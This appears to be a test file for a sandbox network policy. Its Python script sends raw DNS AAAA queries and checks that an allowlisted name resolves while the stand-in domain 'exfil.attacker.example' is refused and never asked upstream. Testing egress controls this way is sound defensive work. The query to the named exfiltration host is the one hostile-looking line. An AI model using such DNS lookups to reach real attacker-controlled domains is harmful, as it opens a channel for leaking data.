# what: DNS AAAA questions through the session's resolver: allowed.test (no IPv6 address: an empty answer) and exfil.attacker.example (NXDOMAIN, never asked upstream)
# expect-allowed: allowed.test dns
# expect-denied: exfil.attacker.example 53 dns not_allowlisted
# inet: allow allowed.test
# expect-stdout: (?s)allowed.test rcode 0 answers 0.*exfil.attacker.example rcode 3 answers 0
import random, socket, struct

ns = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]

def aaaa(name):
    qid = random.randrange(65536)
    q = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\0" + struct.pack(">HH", 28, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.sendto(q, (ns, 53))
    r, _ = s.recvfrom(4096)
    rcode = r[3] & 0xf
    an = struct.unpack(">H", r[6:8])[0]
    print(name, "rcode", rcode, "answers", an)
    if an:
        print("LEAK: an AAAA answer for", name)

for n in ("allowed.test", "exfil.attacker.example"):
    try:
        aaaa(n)
    except Exception as e:
        print(n, "ERROR", type(e).__name__, e)
